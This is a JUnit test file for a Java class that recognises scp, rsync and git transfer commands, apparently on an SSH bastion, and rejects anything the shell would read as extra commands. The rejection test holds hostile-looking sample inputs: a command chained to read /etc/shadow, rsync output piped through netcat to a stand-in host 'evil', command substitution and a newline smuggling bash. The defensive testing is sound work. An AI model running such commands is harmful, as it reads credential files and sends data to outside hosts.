package dev.bastion.sftp;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.Optional;
import org.junit.jupiter.api.Test;

class TransferCommandTest {
  static Optional<TransferCommand> of(String line) {
    return TransferCommand.of(line);
  }

  @Test
  void commandsAsClientsSendThemAreTransfersWithTheirDirection() {
    assertEquals(Optional.of(new TransferCommand("scp", "write")), of("scp -t /tmp/x"));
    assertEquals(Optional.of(new TransferCommand("scp", "read")), of("scp -r -p -f -- /srv/a b"));
    assertEquals(
        Optional.of(new TransferCommand("rsync", "write")),
        of("rsync --server -vlogDtpre.iLsfxCIvu . dir/"));
    assertEquals(
        Optional.of(new TransferCommand("rsync", "read")),
        of("sudo rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv/data"));
    assertEquals(
        Optional.of(new TransferCommand("git", "read")), of("git-upload-pack '/srv/repo.git'"));
    assertEquals(
        Optional.of(new TransferCommand("git", "write")),
        of("/usr/bin/git-receive-pack 'it'\\''s.git'"));
    assertEquals(
        Optional.of(new TransferCommand("git", "read")), of("git upload-archive \"repo.git\""));
  }

  @Test
  void anythingTheShellWouldReadAsMoreIsAnOrdinaryCommand() {
    assertEquals(Optional.empty(), of("scp -f /etc/hosts; cat /etc/shadow"));
    assertEquals(Optional.empty(), of("rsync --server . x | nc evil 9"));
    assertEquals(Optional.empty(), of("git-upload-pack \"$(id)\""));
    assertEquals(Optional.empty(), of("git-upload-pack `id`"));
    assertEquals(Optional.empty(), of("scp -t x > /dev/null"));
    assertEquals(Optional.empty(), of("git-upload-pack 'unclosed"));
    assertEquals(Optional.empty(), of("scp -t x\nbash"));
    assertEquals(Optional.empty(), of("rsync --version"));
    assertEquals(Optional.empty(), of("scp /a /b"));
    assertEquals(Optional.empty(), of("cat file"));
    assertEquals(Optional.empty(), of(null));
  }
}
